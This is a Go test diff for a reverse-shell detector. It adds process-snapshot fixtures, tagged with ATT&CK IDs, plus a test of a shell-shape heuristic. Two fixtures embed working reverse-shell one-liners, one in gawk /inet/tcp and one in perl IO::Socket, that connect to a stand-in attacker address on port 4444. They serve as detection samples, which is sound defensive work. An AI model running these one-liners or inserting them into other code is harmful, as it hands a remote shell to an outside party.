@@ -112,6 +112,37 @@ func TestRelayedShells(t *testing.T) {
 			entity: "rev:3001", tech: "T1059.004", role: relayParent,
 		},
 		{
+			name: "gawk /inet/tcp: the interpreter holds the connection and runs what it reads",
+			add: func(s *collector.Snapshot) {
+				bldProc(s, 3000, 2000, "gawk", "gawk", `BEGIN {s = "/inet/tcp/0/203.0.113.5/4444"; while (1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }`)
+				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 3000))
+			},
+			entity: "rev:3000", tech: "T1059.004", role: relaySelf,
+		},
+		{
+			name: "perl IO::Socket one-liner, unprivileged: its own command line names the endpoint",
+			add: func(s *collector.Snapshot) {
+				bldProc(s, 3000, 2000, "perl", "perl", "-MIO", "-e", `$c=new IO::Socket::INET(PeerAddr,"203.0.113.5:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;`)
+				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 0))
+			},
+			entity: "rev:3000", tech: "T1059", role: relaySelf,
+		},
+		{
+			name: "unprivileged: a python relay under timeout is the holder, not relayed by its launcher",
+			add: func(s *collector.Snapshot) {
+				bldProc(s, 2999, 2000, "timeout", "timeout", "25", "python3", "relay.py", "203.0.113.5", "4444")
+				bldProc(s, 3000, 2999, "python3", "python3", "relay.py", "203.0.113.5", "4444")
+				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:4444", "ESTABLISHED", 0))
+			},
+		},
+		{
+			name: "python fetching a URL it names is no reverse shell",
+			add: func(s *collector.Snapshot) {
+				bldProc(s, 3000, 2000, "python3", "python3", "-c", `import urllib.request; urllib.request.urlopen("http://203.0.113.5:8080/")`)
+				s.Sockets = append(s.Sockets, bldTCP("10.0.0.5:40001", "203.0.113.5:8080", "ESTABLISHED", 3000))
+			},
+		},
+		{
 			name: "a login over sshd (inbound connection) is no reverse shell",
 			add: func(s *collector.Snapshot) {
 				sh := bldProc(s, 3001, 201, "bash", "-bash")
@@ -203,6 +234,27 @@ func TestRelayedShells(t *testing.T) {
 			}
 			t.Log(a.Message)
 		})
+	}
+}
+
+func TestShellShaped(t *testing.T) {
+	for _, tc := range []struct {
+		cmd  []string
+		want bool
+	}{
+		{[]string{"-bash"}, true},
+		{[]string{"x", "-i"}, true},
+		{[]string{"/tmp/kworker", "-li"}, true},
+		{[]string{"dash", "-e", "-c", "id"}, true},
+		{[]string{"timeout", "25", "sh", "-c", "id"}, false},
+		{[]string{"timeout", "-s", "KILL", "25", "sh", "-i"}, false},
+		{[]string{"nginx", "-g", "daemon off;"}, false},
+		{[]string{"-"}, false},
+		{nil, false},
+	} {
+		if got := shellShaped(&collector.Process{Cmdline: tc.cmd}); got != tc.want {
+			t.Errorf("shellShaped(%q) = %v, want %v", tc.cmd, got, tc.want)
+		}
 	}
 }
 
